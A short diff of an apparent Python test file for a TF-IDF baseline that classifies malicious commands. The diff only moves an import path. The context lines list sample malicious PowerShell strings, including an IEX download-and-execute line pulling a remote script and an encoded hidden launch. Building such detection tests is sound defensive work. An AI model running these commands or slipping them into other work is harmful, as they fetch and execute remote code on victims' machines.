@@ -3,7 +3,7 @@ import numpy as np
 import pytest
 from sklearn.metrics import roc_auc_score
 
-from pipeline.baseline import TfidfBaseline
+from pipeline.evaluation.baseline import TfidfBaseline
 
 MALICIOUS = ["IEX (New-Object Net.WebClient).DownloadString('http://{h}/{v}.ps1')",
              "powershell -enc {v}AAAA -w hidden -nop",
